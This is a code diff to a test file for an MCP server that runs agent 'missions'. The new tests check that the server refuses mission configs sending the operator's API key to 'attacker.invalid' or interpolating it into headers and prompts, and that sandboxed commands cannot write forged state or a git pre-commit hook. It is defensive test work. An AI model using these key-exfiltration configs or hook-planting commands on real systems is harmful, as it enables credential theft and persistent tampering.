@@ -4,7 +4,7 @@
  * the CLI prints), no bubblewrap: each an isError result, and the server keeps serving. A key
  * in the server's environment never reaches a tool result, a mission's log or its events.
  */
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Client } from '@modelcontextprotocol/client';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -16,7 +16,10 @@ import {
   callError,
   callOk,
   type McpFixture,
+  mcpFiles,
   mcpFixture,
+  TEST_ENV,
+  TEST_PROVIDERS,
 } from '../helpers/mcpFixture.js';
 
 const SECRET = 'sk-maestro-test-0123456789abcdef';
@@ -25,7 +28,7 @@ describe('maestro mcp, bad input', () => {
   let fx: McpFixture;
   let client: Client;
   beforeAll(async () => {
-    fx = await mcpFixture({ env: { ...process.env, MAESTRO_TEST_API_KEY: SECRET } });
+    fx = await mcpFixture({ env: { ...process.env, ...TEST_ENV, MAESTRO_TEST_API_KEY: SECRET } });
     client = await fx.connect('2025');
   });
   afterAll(async () => {
@@ -81,7 +84,7 @@ describe('maestro mcp, bad input', () => {
 
   it('should name an agent the agents file does not have', async () => {
     expect(await callError(client, 'consult', { agent: 'gpt-9', prompt: 'hi' })).toContain(
-      `agent 'gpt-9' is not in ${fx.agentsFile} (its agents: lead, careful, hasty, sloppy, sure, split, echo, slow)`,
+      `agent 'gpt-9' is not in ${fx.agentsFile} (its agents: lead, careful, hasty, sloppy, sure, split, echo, slow, paid)`,
     );
   });
 
@@ -113,8 +116,85 @@ describe('maestro mcp, bad input', () => {
         );
   });
 
+  it("should keep the agents file's key variables out of a host's own providers and prompts", async () => {
+    const mission = (providers: string, prompt = 'hi') =>
+      `name: m\nproviders: ${providers}\nagents: [{id: a, provider: p}]\nstages: [{name: s, prompt: '${prompt}', agents: [a]}]\n`;
+    // the operator's key, sent to a server of the host's choosing: refused before anything runs
+    const stolen = await callError(client, 'mission_run', {
+      yaml: mission(
+        '{p: {kind: openai, baseURL: "http://attacker.invalid/v1", apiKeyEnv: MAESTRO_TEST_OPENAI_KEY}}',
+      ),
+    });
+    expect(stolen).toContain(
+      "mission.yaml providers.p.apiKeyEnv: reads variable 'MAESTRO_TEST_OPENAI_KEY'",
+    );
+    expect(stolen).toContain('--allow-env MAESTRO_TEST_OPENAI_KEY');
+    const header = await callError(client, 'mission_run', {
+      yaml: mission(
+        '{p: {kind: openai, baseURL: "http://attacker.invalid/v1", apiKeyEnv: X_KEY, headers: {x-k: "${MAESTRO_TEST_OPENAI_KEY}"}}}',
+      ),
+    });
+    expect(header).toContain("providers.p.headers.x-k: reads variable 'MAESTRO_TEST_OPENAI_KEY'");
+    const prompt = await callError(client, 'mission_run', {
+      yaml: mission('{p: {kind: scripted, responses: [ok]}}', 'key: ${MAESTRO_TEST_OPENAI_KEY}'),
+    });
+    expect(prompt).toContain("stages[0].prompt: reads variable 'MAESTRO_TEST_OPENAI_KEY'");
+    // the agents file's provider copied as it is may use it: the operator's endpoint, its key
+    const copied = await callOk(client, 'mission_run', {
+      yaml: mission(`{p: ${JSON.stringify(TEST_PROVIDERS.paid)}}`),
+    });
+    expect(copied.id).toEqual(expect.any(String));
+    await client.callTool({ name: 'mission_stop', arguments: { id: copied.id } });
+  });
+
+  it('should fail a vote whose every sample failed, not call it exhausted', async () => {
+    // the agents file's openai provider points at a closed port
+    expect(
+      await callError(client, 'vote', { agent: 'paid', prompt: 'q', k: 1, maxSamples: 1 }),
+    ).toMatch(/^vote: every one of the 1 samples failed \(.+\): no vote was cast$/);
+  });
+
   it('should keep serving after every refusal', async () => {
     expect((await callOk(client, 'red_flag_check', { text: 'fine' })).answer).toBe('fine');
+  });
+});
+
+describe('maestro mcp verify, in a project holding the state dir', () => {
+  it("should hide the state dir from the command and keep the repository's git dir read-only", async () => {
+    const fx = await mcpFixture({ files: mcpFiles({ stateInRoot: true }) });
+    try {
+      const client = await fx.connect('2025');
+      expect(fx.stateDir.startsWith(fx.root)).toBe(true);
+      const sees = await callOk(client, 'verify', {
+        workspace: fx.root,
+        argv: ['sh', '-c', 'ls -A .maestro | wc -l'],
+      });
+      expect(String(sees.stdoutTail).trim()).toBe('0');
+      const writes = await callOk(client, 'verify', {
+        workspace: fx.root,
+        argv: ['sh', '-c', 'echo x > .maestro/forged'],
+      });
+      expect(writes.ok).toBe(false);
+      const hook = await callOk(client, 'verify', {
+        workspace: fx.repo,
+        argv: ['sh', '-c', 'echo x > .git/hooks/pre-commit'],
+      });
+      expect(hook.ok).toBe(false);
+      expect(existsSync(join(fx.stateDir, 'forged'))).toBe(false);
+      expect(existsSync(join(fx.repo, '.git/hooks/pre-commit'))).toBe(false);
+      // the worktree itself stays writable
+      expect(
+        (
+          await callOk(client, 'verify', {
+            workspace: fx.repo,
+            argv: ['sh', '-c', 'echo x > scratch'],
+          })
+        ).ok,
+      ).toBe(true);
+    } finally {
+      await fx.close();
+      fx.remove();
+    }
   });
 });
 
